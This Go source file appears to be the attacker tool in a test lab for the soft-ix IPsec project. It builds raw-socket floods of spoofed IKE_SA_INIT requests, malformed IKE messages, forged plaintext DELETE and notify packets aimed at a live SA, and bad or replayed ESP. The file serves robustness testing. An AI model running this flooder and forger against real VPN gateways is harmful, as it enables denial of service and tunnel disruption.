// Command hostile is the lab's attacker (issue 14's hostile input): run in
// a namespace on the internet segment, it sends forged IKE and ESP at a
// soft-ix as fast as it can (or at -rate packets per second), from its own
// address or from spoofed ones, bounded by -count and -duration, and
// prints one line of what it sent:
//
//	hostile -mode ikeinit -dst 203.0.113.94 -spoof 192.0.2.128/25 -ports 32 -duration 10s
//	hostile -mode malformed -dst 203.0.113.94 -src 198.51.100.6 -ike-spi I:R -count 20000
//	hostile -mode forge -dst 203.0.113.94 -src 198.51.100.6 -ike-spi I:R -esp-spi S
//	hostile -mode esp-badicv -dst 203.0.113.94 -src 192.0.2.2 -esp-spi S [-udp] -duration 10s
//	hostile -mode esp-randspi|esp-replay ...
//
// Packets are written whole (IP header included) to a raw socket
// (IPPROTO_RAW), so any source address:port can be claimed. The IKE
// messages are built with the project's ike/wire encoder, so everything
// up to the part an attacker cannot compute (keys, ICVs) is well formed.
//
// Modes:
//   - ikeinit: IKE_SA_INIT requests (AES-CBC-256, SHA1, MODP1024 with a
//     random public value) from every address of -spoof times -ports
//     source ports, a fresh initiator SPI each.
//   - malformed: 16 kinds of broken or unauthenticated IKE in turn, on
//     ports 500 and 4500: truncated, wrong lengths, wrong version,
//     broken payload chains, unknown critical payloads, bad SA, KE and
//     nonce payloads, and messages for the live IKE SA (-ike-spi) with
//     random SK payloads, as requests and responses, at message IDs
//     around the live ones.
//   - forge: messages that would end or disturb the live SA if they were
//     believed: INFORMATIONAL requests with an SK payload of random bytes
//     (a forged DELETE), plaintext DELETE of the IKE SA and of the Child
//     SA (-esp-spi), plaintext INVALID_IKE_SPI, INVALID_SPI,
//     AUTHENTICATION_FAILED and INITIAL_CONTACT notifies, as requests and
//     as responses.
//   - esp-badicv: ESP with the live SPI, sequence numbers ahead of the
//     window and a random body (the ICV check fails).
//   - esp-randspi: ESP with random SPIs.
//   - esp-replay: ESP with the live SPI and the 500 sequence numbers up to
//     -seq in turn: what the peer sent last (replays within the window).
//     With extended sequence numbers, a number that has fallen behind the
//     window is taken for one of the next 2^32 and fails the ICV instead.
//
// -udp sends ESP in UDP to port 4500 instead of raw (protocol 50). -cpu N
// keeps the attacker on CPU N (TestHostile gives it one core and soft-ix
// the other).
package main

import (
	"encoding/binary"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/soft-ix/soft-ix/ike/wire"
	"github.com/soft-ix/soft-ix/integration/cpupin"
)

func main() {
	mode := flag.String("mode", "", "ikeinit, malformed, forge, esp-badicv, esp-randspi or esp-replay")
	dst := flag.String("dst", "", "the target's address")
	src := flag.String("src", "", "source address (the attacker's own, or one to impersonate)")
	spoof := flag.String("spoof", "", "ikeinit: a prefix whose addresses to send from (each with -ports ports)")
	ports := flag.Int("ports", 16, "ikeinit: source ports per spoofed address")
	ikeSPI := flag.String("ike-spi", "", "the live IKE SA as SPIi:SPIr (16 hex digits each)")
	espSPI := flag.String("esp-spi", "", "the live inbound ESP SPI (8 hex digits)")
	udp := flag.Bool("udp", false, "ESP modes: send in UDP to port 4500")
	size := flag.Int("size", 200, "ESP modes: bytes of ESP (header included)")
	top := flag.Uint("seq", 1000, "esp-replay: the highest sequence number to replay (the 500 below it in turn)")
	rate := flag.Int("rate", 0, "packets per second; 0 as fast as possible")
	count := flag.Int("count", 0, "stop after this many packets; 0 no bound but -duration")
	duration := flag.Duration("duration", 10*time.Second, "stop after this long")
	seed := flag.Uint64("seed", 14, "random seed")
	cpu := flag.Int("cpu", -1, "run on this CPU only (the lab gives the attacker a core of its own); -1 wherever")
	flag.Parse()
	if *cpu >= 0 {
		if err := cpupin.Pin(0, *cpu); err != nil {
			fail("-cpu: %v", err)
		}
	}

	g := &gen{rng: rand.New(rand.NewPCG(*seed, 1)), size: *size, udp: *udp, top: uint32(*top)}
	var err error
	if g.dst, err = netip.ParseAddr(*dst); err != nil || !g.dst.Is4() {
		fail("-dst: want an IPv4 address, got %q", *dst)
	}
	if *src != "" {
		if g.src, err = netip.ParseAddr(*src); err != nil || !g.src.Is4() {
			fail("-src: want an IPv4 address, got %q", *src)
		}
	}
	if *ikeSPI != "" {
		i, r, ok := strings.Cut(strings.TrimPrefix(*ikeSPI, "0x"), ":")
		a, err1 := strconv.ParseUint(i, 16, 64)
		b, err2 := strconv.ParseUint(strings.TrimPrefix(r, "0x"), 16, 64)
		if !ok || err1 != nil || err2 != nil {
			fail("-ike-spi: want SPIi:SPIr in hex, got %q", *ikeSPI)
		}
		g.spiI, g.spiR = a, b
	}
	if *espSPI != "" {
		v, err := strconv.ParseUint(strings.TrimPrefix(*espSPI, "0x"), 16, 32)
		if err != nil {
			fail("-esp-spi: %v", err)
		}
		g.esp = uint32(v)
	}
	switch *mode {
	case "ikeinit":
		p, err := netip.ParsePrefix(*spoof)
		if err != nil || !p.Addr().Is4() || *ports < 1 {
			fail("ikeinit needs -spoof PREFIX (IPv4) and -ports N")
		}
		for a := p.Masked().Addr(); p.Contains(a); a = a.Next() {
			for k := range *ports {
				g.sources = append(g.sources, netip.AddrPortFrom(a, uint16(1024+k)))
			}
		}
		g.next = g.ikeInit
	case "malformed":
		g.needSrc()
		g.next = g.malformed
	case "forge":
		g.needSrc()
		if g.spiI == 0 {
			fail("forge needs -ike-spi")
		}
		g.next = g.forge
	case "esp-badicv", "esp-replay":
		g.needSrc()
		if g.esp == 0 {
			fail("%s needs -esp-spi", *mode)
		}
		g.next = g.espPacket(*mode)
	case "esp-randspi":
		g.needSrc()
		g.next = g.espPacket(*mode)
	default:
		fail("unknown -mode %q", *mode)
	}

	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		fail("raw socket: %v", err)
	}
	// A large send buffer keeps the loop from sleeping on every packet.
	syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_SNDBUF, 4<<20)
	to := &syscall.SockaddrInet4{Addr: g.dst.As4()}

	start := time.Now()
	deadline := start.Add(*duration)
	var sent, bytes, errs int
	buf := make([]byte, 0, 2048)
	for *count == 0 || sent < *count {
		if sent%64 == 0 {
			now := time.Now()
			if now.After(deadline) {
				break
			}
			if *rate > 0 {
				if ahead := time.Duration(float64(sent)/float64(*rate)*float64(time.Second)) - now.Sub(start); ahead > 0 {
					time.Sleep(ahead)
				}
			}
		}
		pkt := g.next(buf[:0])
		if err := syscall.Sendto(fd, pkt, 0, to); err != nil {
			// ENOBUFS and the like: the attacker's own limit, counted.
			errs++
			continue
		}
		sent++
		bytes += len(pkt)
	}
	el := time.Since(start)
	fmt.Printf("mode=%s sent=%d bytes=%d send_errors=%d seconds=%.3f pps=%.0f kinds=%d\n",
		*mode, sent, bytes, errs, el.Seconds(), float64(sent)/el.Seconds(), g.kinds)
}

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "hostile: "+format+"\n", args...)
	os.Exit(2)
}

// gen makes the packets of one mode.
type gen struct {
	rng        *rand.Rand
	dst, src   netip.Addr
	sources    []netip.AddrPort
	spiI, spiR uint64
	esp        uint32
	udp        bool
	size       int
	top        uint32 // esp-replay: highest sequence number
	n          uint64 // packets made so far
	kinds      int    // distinct kinds a mode cycles through
	next       func(b []byte) []byte
}

func (g *gen) needSrc() {
	if !g.src.IsValid() {
		fail("this mode needs -src")
	}
}

func (g *gen) random(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(g.rng.Uint32())
	}
	return b
}

// ipv4 appends an IPv4 header for a payload of n bytes; the kernel fills
// in the checksum and ID.
func ipv4(b []byte, src, dst netip.Addr, proto byte, n int) []byte {
	s, d := src.As4(), dst.As4()
	b = append(b, 0x45, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(20+n))
	b = append(b, 0, 0, 0x40, 0, 64, proto, 0, 0)
	b = append(b, s[:]...)
	return append(b, d[:]...)
}

// udpPacket appends IP and UDP headers and payload (UDP checksum 0: none).
func udpPacket(b []byte, src netip.AddrPort, dst netip.Addr, dport uint16, payload []byte) []byte {
	b = ipv4(b, src.Addr(), dst, syscall.IPPROTO_UDP, 8+len(payload))
	b = binary.BigEndian.AppendUint16(b, src.Port())
	b = binary.BigEndian.AppendUint16(b, dport)
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(payload)))
	b = append(b, 0, 0)
	return append(b, payload...)
}

// ike sends msg on port 500, or on 4500 behind the non-ESP marker.
func (g *gen) ike(b []byte, from netip.AddrPort, on4500 bool, msg []byte) []byte {
	if on4500 {
		return udpPacket(b, from, g.dst, 4500, append([]byte{0, 0, 0, 0}, msg...))
	}
	return udpPacket(b, from, g.dst, 500, msg)
}

// initProposal is the seed's IKE proposal.
func initProposal() *wire.SA {
	return &wire.SA{Proposals: []wire.Proposal{{Number: 1, Protocol: wire.ProtocolIKE, Transforms: []wire.Transform{
		{Type: wire.TransformENCR, ID: wire.EncrAESCBC, KeyLength: 256},
		{Type: wire.TransformPRF, ID: wire.PRFHMACSHA1},
		{Type: wire.TransformINTEG, ID: wire.IntegHMACSHA196},
		{Type: wire.TransformDH, ID: wire.DHModp1024},
	}}}}
}

func (g *gen) initMessage(spi uint64) []byte {
	m := wire.Message{
		Header: wire.Header{SPIi: spi, Exchange: wire.IKE_SA_INIT, Flags: wire.FlagInitiator},
		Payloads: []wire.Payload{
			initProposal(),
			&wire.KE{Group: wire.DHModp1024, Data: g.random(128)},
			&wire.Nonce{Data: g.random(32)},
		},
	}
	return m.Append(nil)
}

func (g *gen) ikeInit(b []byte) []byte {
	from := g.sources[g.n%uint64(len(g.sources))]
	g.n++
	g.kinds = 1
	return g.ike(b, from, false, g.initMessage(g.rng.Uint64()|1))
}

// sk is a message on the live IKE SA whose only payload is an SK payload
// of random bytes (IV, ciphertext and ICV as long as the seed's suite
// would make them).
func (g *gen) sk(ex wire.ExchangeType, flags wire.Flags, id uint32, inner wire.PayloadType) []byte {
	m := wire.Message{
		Header:   wire.Header{SPIi: g.spiI, SPIr: g.spiR, Exchange: ex, Flags: flags, MessageID: id},
		Payloads: []wire.Payload{&wire.Encrypted{NextPayload: inner, Body: g.random(16 + 32 + 12)}},
	}
	return m.Append(nil)
}

// plain is a message on the live IKE SA with unprotected payloads.
func (g *gen) plain(ex wire.ExchangeType, flags wire.Flags, id uint32, ps ...wire.Payload) []byte {
	m := wire.Message{Header: wire.Header{SPIi: g.spiI, SPIr: g.spiR, Exchange: ex, Flags: flags, MessageID: id}, Payloads: ps}
	return m.Append(nil)
}

// malformed cycles through the kinds of broken IKE, alternating ports 500
// and 4500.
func (g *gen) malformed(b []byte) []byte {
	k, from, on4500 := g.cycle(16)
	id := uint32(g.rng.IntN(8))
	init := g.initMessage(g.rng.Uint64() | 1)
	var msg []byte
	switch k {
	case 0: // shorter than a header
		msg = g.random(1 + g.rng.IntN(27))
	case 1: // header length larger than the datagram
		msg = append([]byte(nil), init...)
		binary.BigEndian.PutUint32(msg[24:], uint32(len(msg)+100))
	case 2: // header length smaller than the datagram
		msg = append([]byte(nil), init...)
		binary.BigEndian.PutUint32(msg[24:], 28)
	case 3: // major version 3
		msg = append([]byte(nil), init...)
		msg[17] = 0x30
	case 4: // first payload's length runs past the end
		msg = append([]byte(nil), init...)
		binary.BigEndian.PutUint16(msg[28+2:], 0xfff0)
	case 5: // a payload length below its header
		msg = append([]byte(nil), init...)
		binary.BigEndian.PutUint16(msg[28+2:], 2)
	case 6: // unknown payload type marked critical
		m := wire.Message{Header: wire.Header{SPIi: g.rng.Uint64() | 1, Exchange: wire.IKE_SA_INIT, Flags: wire.FlagInitiator}}
		msg = m.Append(nil)
		msg[16] = 200
		msg = wire.AppendPayloadHeader(msg, 0, true, 8)
		msg = append(msg, g.random(4)...)
		binary.BigEndian.PutUint32(msg[24:], uint32(len(msg)))
	case 7: // SA payload with a proposal count and lengths that lie
		msg = append([]byte(nil), init...)
		// The proposal substructure's length (after SA and proposal headers).
		binary.BigEndian.PutUint16(msg[28+4+2:], 0x0400)
	case 8: // KE for another group than proposed, wrong length
		m := wire.Message{
			Header:   wire.Header{SPIi: g.rng.Uint64() | 1, Exchange: wire.IKE_SA_INIT, Flags: wire.FlagInitiator},
			Payloads: []wire.Payload{initProposal(), &wire.KE{Group: 31, Data: g.random(5)}, &wire.Nonce{Data: g.random(32)}},
		}
		msg = m.Append(nil)
	case 9: // nonce of 1 byte, no KE
		m := wire.Message{
			Header:   wire.Header{SPIi: g.rng.Uint64() | 1, Exchange: wire.IKE_SA_INIT, Flags: wire.FlagInitiator},
			Payloads: []wire.Payload{initProposal(), &wire.Nonce{Data: g.random(1)}},
		}
		msg = m.Append(nil)
	case 10: // IKE_AUTH for an IKE SA that does not exist
		m := wire.Message{
			Header:   wire.Header{SPIi: g.rng.Uint64() | 1, SPIr: g.rng.Uint64() | 1, Exchange: wire.IKE_AUTH, Flags: wire.FlagInitiator, MessageID: 1},
			Payloads: []wire.Payload{&wire.Encrypted{NextPayload: wire.PayloadIDi, Body: g.random(200)}},
		}
		msg = m.Append(nil)
	case 11: // the live SA: IKE_AUTH request with garbage SK
		msg = g.sk(wire.IKE_AUTH, wire.FlagInitiator, id, wire.PayloadIDi)
	case 12: // the live SA: CREATE_CHILD_SA request with garbage SK
		msg = g.sk(wire.CREATE_CHILD_SA, g.initiatorFlag(), id, wire.PayloadSA)
	case 13: // the live SA: a response to whatever it asked, garbage SK
		msg = g.sk(wire.INFORMATIONAL, g.initiatorFlag()|wire.FlagResponse, id, 0)
	case 14: // the live SA: SK payload shorter than an IV and ICV
		m := wire.Message{
			Header:   wire.Header{SPIi: g.spiI, SPIr: g.spiR, Exchange: wire.INFORMATIONAL, Flags: g.initiatorFlag(), MessageID: id},
			Payloads: []wire.Payload{&wire.Encrypted{Body: g.random(3)}},
		}
		msg = m.Append(nil)
	case 15: // the live SA: an IKE_SA_INIT with its SPIs (a replayed start)
		msg = append([]byte(nil), init...)
		binary.BigEndian.PutUint64(msg[0:], g.spiI)
		binary.BigEndian.PutUint64(msg[8:], g.spiR)
	}
	return g.ike(b, from, on4500, msg)
}

// cycle picks the kind of the next packet of a mode with kinds kinds, in
// turn, and its port: each round of kinds goes to port 500, the next to
// 4500.
func (g *gen) cycle(kinds int) (k int, from netip.AddrPort, on4500 bool) {
	g.kinds = kinds
	k = int(g.n % uint64(kinds))
	on4500 = (g.n/uint64(kinds))%2 == 1
	g.n++
	from = netip.AddrPortFrom(g.src, 500)
	if on4500 {
		from = netip.AddrPortFrom(g.src, 4500)
	}
	return k, from, on4500
}

// initiatorFlag alternates between claiming to be the SA's initiator and
// its responder.
func (g *gen) initiatorFlag() wire.Flags {
	if g.n%2 == 0 {
		return wire.FlagInitiator
	}
	return 0
}

// forge cycles through messages that would hurt if believed.
func (g *gen) forge(b []byte) []byte {
	k, from, on4500 := g.cycle(10)
	id := uint32(g.rng.IntN(16))
	fl := g.initiatorFlag()
	espSPI := binary.BigEndian.AppendUint32(nil, g.esp)
	var msg []byte
	switch k {
	case 0: // a DELETE as it would travel: inside SK, which we cannot compute
		msg = g.sk(wire.INFORMATIONAL, fl, id, wire.PayloadDelete)
	case 1: // DELETE of the IKE SA in plaintext
		msg = g.plain(wire.INFORMATIONAL, fl, id, &wire.Delete{Protocol: wire.ProtocolIKE})
	case 2: // DELETE of the Child SA in plaintext
		msg = g.plain(wire.INFORMATIONAL, fl, id, &wire.Delete{Protocol: wire.ProtocolESP, SPISize: 4, SPIs: [][]byte{espSPI}})
	case 3: // INVALID_IKE_SPI as a response (what a restarted peer would say)
		msg = g.plain(wire.INFORMATIONAL, fl|wire.FlagResponse, id, &wire.Notify{NotifyType: wire.INVALID_IKE_SPI})
	case 4: // INVALID_IKE_SPI as a request
		msg = g.plain(wire.INFORMATIONAL, fl, id, &wire.Notify{NotifyType: wire.INVALID_IKE_SPI})
	case 5: // INVALID_SPI for the Child SA
		msg = g.plain(wire.INFORMATIONAL, fl, id, &wire.Notify{Protocol: wire.ProtocolESP, NotifyType: wire.INVALID_SPI, Data: espSPI})
	case 6: // AUTHENTICATION_FAILED as a response
		msg = g.plain(wire.IKE_AUTH, fl|wire.FlagResponse, 1, &wire.Notify{NotifyType: wire.AUTHENTICATION_FAILED})
	case 7: // INITIAL_CONTACT in plaintext (would wipe the peer's SAs)
		msg = g.plain(wire.INFORMATIONAL, fl, id, &wire.Notify{NotifyType: wire.INITIAL_CONTACT})
	case 8: // a new IKE_SA_INIT from the peer's address
		msg = g.initMessage(g.rng.Uint64() | 1)
	case 9: // the SK payload of a forged DELETE as a CREATE_CHILD_SA rekey
		msg = g.sk(wire.CREATE_CHILD_SA, fl, id, wire.PayloadSA)
	}
	return g.ike(b, from, on4500, msg)
}

// espPacket returns the generator of an ESP mode.
func (g *gen) espPacket(mode string) func([]byte) []byte {
	body := g.random(max(g.size, 16) - 8)
	var seq uint32 = 1 << 30 // far ahead of any real window: each passes the replay precheck
	return func(b []byte) []byte {
		g.n++
		g.kinds = 1
		spi := g.esp
		switch mode {
		case "esp-randspi":
			spi = g.rng.Uint32() | 0x100
		case "esp-replay":
			seq = g.top - uint32(g.n%min(500, uint64(g.top)))
		default:
			seq++
		}
		// Vary the body a little so no cache could help.
		binary.BigEndian.PutUint64(body, g.n)
		esp := binary.BigEndian.AppendUint32(make([]byte, 0, 8+len(body)), spi)
		esp = binary.BigEndian.AppendUint32(esp, seq)
		esp = append(esp, body...)
		if g.udp {
			return udpPacket(b, netip.AddrPortFrom(g.src, 4500), g.dst, 4500, esp)
		}
		b = ipv4(b, g.src, g.dst, 50, len(esp))
		return append(b, esp...)
	}
}
